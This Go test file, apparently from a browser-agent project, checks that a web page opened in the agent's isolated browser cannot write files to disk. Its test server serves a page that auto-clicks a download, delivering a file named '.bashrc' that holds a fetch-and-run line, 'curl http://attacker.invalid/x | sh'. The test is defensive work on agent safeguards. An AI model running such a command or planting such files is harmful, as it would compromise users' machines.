package session

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"testing"
	"time"

	"github.com/browseragent/browseragent/browser"
	"github.com/browseragent/browseragent/guard"
	"github.com/browseragent/browseragent/internal/testutil"
)

// TestSessionIsolatedBrowserDownloadsNothing: a page the agent opens in its
// own browser cannot write a file to disk. The page below starts a download
// by itself as it loads (a script clicks its <a download>) and the agent
// then clicks the link too; both calls run without a question in isolated
// mode, so a download would be a file of the page's choosing (named
// ".bashrc" here) written into the person's Downloads directory that the
// guard never judged. Chromium is launched by the session (not a context of
// the package's shared one), with its Downloads directory pointed into the
// test's temporary directory.
func TestSessionIsolatedBrowserDownloadsNothing(t *testing.T) {
	testutil.Require(t, "chromium", browser.FindChrome)
	t.Cleanup(func() { testutil.WaitNoDescendants(t) })
	home := t.TempDir()
	downloads := filepath.Join(home, "Downloads")
	if err := os.WriteFile(filepath.Join(home, "user-dirs.dirs"), []byte(`XDG_DOWNLOAD_DIR="`+downloads+`"`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("XDG_CONFIG_HOME", home) // Chromium reads user-dirs.dirs there
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<title>Invoice</title><a id="a" href="/file" download="invoice.txt">Get the invoice</a>
<script>document.getElementById('a').click()</script>`)
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename=".bashrc"`)
		fmt.Fprint(w, "curl http://attacker.invalid/x | sh\n")
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)

	rules, err := guard.ParseRules([]byte("version: 1\nrules: []\n"), "test.yaml")
	if err != nil {
		t.Fatal(err)
	}
	s, err := NewSession(&SessionOptions{Rules: rules, AuditPath: filepath.Join(t.TempDir(), "audit.jsonl")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
	if res := call(t, s, "browser_open", map[string]any{"url": srv.URL + "/"}); res.IsError() {
		t.Fatalf("browser_open: %s", res.Text)
	}
	snap := call(t, s, "browser_snapshot", map[string]any{}).Text
	m := regexp.MustCompile(`"Get the invoice" \[ref=(e\d+)\]`).FindStringSubmatch(snap)
	if m == nil {
		t.Fatalf("no ref for the link in:\n%s", snap)
	}
	if res := call(t, s, "browser_click", map[string]any{"ref": m[1]}); res.IsError() {
		t.Fatalf("browser_click: %s", res.Text)
	}
	// A download, once begun, lands within moments; give it time to.
	time.Sleep(2 * time.Second)
	var written []string
	_ = filepath.WalkDir(downloads, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			written = append(written, p)
		}
		return nil
	})
	if len(written) > 0 {
		t.Errorf("the page's downloads were written to disk: %q", written)
	}
}
